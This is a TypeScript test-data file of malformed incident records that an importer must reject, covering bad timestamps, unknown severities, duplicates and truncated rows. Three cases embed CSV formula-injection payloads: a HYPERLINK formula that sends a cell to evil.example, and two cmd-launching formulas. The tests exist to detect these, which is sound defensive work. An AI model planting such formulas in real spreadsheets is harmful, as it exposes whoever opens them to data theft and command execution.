// Bad records in otherwise good incident files (test data, not used by the app): each must be
// refused alone, with its reason, while the rest of the file is read as before.
import {
  BERLIN,
  NEW_YORK,
  csvWith,
  edited,
  recordOf,
  type BadRecordCase,
  type Json,
} from './corpus-cases';

const PD = 'Q1CHK4102';
const OG = '6d1c3a52-0000-4000-8000-000000000101';
const FH = 'f0e1d2c3-0000-4000-8000-000000000201';
const RT = '9c1e0000-0000-4000-8000-000000000301';
const IO = '01HQ1000INCIDENT000000041';

export const RECORD_CASES: readonly BadRecordCase[] = [
  {
    level: 'record',
    name: 'resolved before it was triggered',
    preset: 'pagerduty-rest',
    sourceId: PD,
    make: (f) =>
      f.pagerdutyRest.replace(
        '"resolved_at": "2026-02-03T10:42:00+01:00"',
        '"resolved_at": "2026-02-03T09:42:00+01:00"',
      ),
    expected:
      'it was recovered before it was detected: resolved_at "2026-02-03T09:42:00+01:00" is before created_at "2026-02-03T10:00:00+01:00"',
  },
  {
    level: 'record',
    name: 'a date that does not parse',
    preset: 'rootly',
    sourceId: RT,
    make: (f) =>
      edited(
        f.rootly,
        (json) =>
          ((recordOf(json, 'data', 0).attributes as Json).resolved_at = 'yesterday evening'),
      ),
    expected: '"attributes.resolved_at" is not a date and time: "yesterday evening"',
  },
  {
    level: 'record',
    name: 'a date in another format than the one chosen',
    preset: 'jira',
    sourceId: 'OPS-107',
    options: NEW_YORK,
    make: (f) => csvWith(f.jira, '15/Apr/26 2:45 PM', '2026-04-15 14:45'),
    expected: '"Resolved" does not match the date format "dd/MMM/yy h:mm a": "2026-04-15 14:45"',
  },
  {
    level: 'record',
    name: 'a day that does not exist',
    preset: 'jira',
    sourceId: 'OPS-107',
    options: NEW_YORK,
    make: (f) => csvWith(f.jira, '15/Apr/26 2:00 PM', '31/Apr/26 2:00 PM'),
    expected: '"Created" is not a real date and time: "31/Apr/26 2:00 PM"',
  },
  {
    level: 'record',
    name: 'a formula in a time cell',
    preset: 'servicenow',
    sourceId: 'INC0010007',
    options: BERLIN,
    make: (f) =>
      csvWith(
        f.servicenow,
        '"2026-05-12 09:25:00"',
        '"=HYPERLINK(""http://evil.example/?""&A1,""open"")"',
      ),
    expected: /^"resolved_at" holds a spreadsheet formula, not data: "=HYPERLINK/,
  },
  {
    level: 'record',
    name: 'a formula in a severity cell',
    preset: 'servicenow',
    sourceId: 'INC0010007',
    options: BERLIN,
    make: (f) =>
      csvWith(f.servicenow, '"3 - Moderate","Resolved"', `"=cmd|' /C calc'!A0","Resolved"`),
    expected: `"priority" holds a spreadsheet formula, not data: "=cmd|' /C calc'!A0"`,
  },
  {
    level: 'record',
    name: 'a formula in an id cell',
    preset: 'jira',
    sourceId: 'OPS-108',
    place: { kind: 'row', number: 9 },
    options: NEW_YORK,
    make: (f) =>
      csvWith(
        f.jira,
        'Returns portal times out,OPS-108',
        'Returns portal times out,@SUM(1+1)*cmd|calc',
      ),
    expected: '"Issue key" holds a spreadsheet formula, not data: "@SUM(1+1)*cmd|calc"',
  },
  {
    level: 'record',
    name: 'a severity no mapping knows',
    preset: 'opsgenie',
    sourceId: OG,
    make: (f) => edited(f.opsgenie, (json) => (recordOf(json, 'data', 0).priority = 'URGENT')),
    expected: '"priority" has a severity no mapping knows: "URGENT" (map it to SEV1–SEV4)',
  },
  {
    level: 'record',
    name: 'the same incident twice in one file',
    preset: 'opsgenie',
    sourceId: OG,
    make: (f) =>
      edited(f.opsgenie, (json) => {
        (json.data as Json[]).push({ ...recordOf(json, 'data', 0) });
      }),
    expected: `its id "${OG}" appears twice in the file (first at record 1)`,
  },
  {
    level: 'record',
    name: 'acknowledged before it was detected',
    preset: 'firehydrant',
    sourceId: FH,
    make: (f) =>
      f.firehydrant.replace(
        '"occurred_at": "2026-02-11T13:06:00.000Z"',
        '"occurred_at": "2026-02-11T12:59:00.000Z"',
      ),
    expected:
      /^milestones out of order: acknowledged comes before detected \(milestones\[2\]\.occurred_at/,
  },
  {
    level: 'record',
    name: 'a negative acknowledgement delay',
    preset: 'opsgenie',
    sourceId: OG,
    make: (f) => f.opsgenie.replace('"ackTime": 180000', '"ackTime": -180000'),
    expected: '"report.ackTime (ms after createdAt)" is negative: "-180000"',
  },
  {
    level: 'record',
    name: 'a time at the start of 1970 (a zero that became a date)',
    preset: 'incident-io',
    sourceId: IO,
    make: (f) =>
      f.incidentIo.replace('"value": "2026-02-05T10:48:00Z"', '"value": "1970-01-01T00:00:00Z"'),
    expected:
      'incident_timestamp_values["Resolved at"] is not a time between the years 2000 and 2200: "1970-01-01T00:00:00Z"',
  },
  {
    level: 'record',
    name: 'a time written as a number',
    preset: 'rootly',
    sourceId: RT,
    make: (f) =>
      edited(
        f.rootly,
        (json) => ((recordOf(json, 'data', 0).attributes as Json).resolved_at = 1771571100),
      ),
    expected: '"attributes.resolved_at" is a number, not a date and time: "1771571100"',
  },
  {
    level: 'record',
    name: 'a row cut off at the end of the file',
    preset: 'servicenow',
    sourceId: 'INC0010007',
    options: BERLIN,
    make: (f) => f.servicenow.slice(0, f.servicenow.indexOf(',"giftcard-api"')),
    expected: "it has 7 of the file's 12 columns: the file may have been cut off",
  },
];
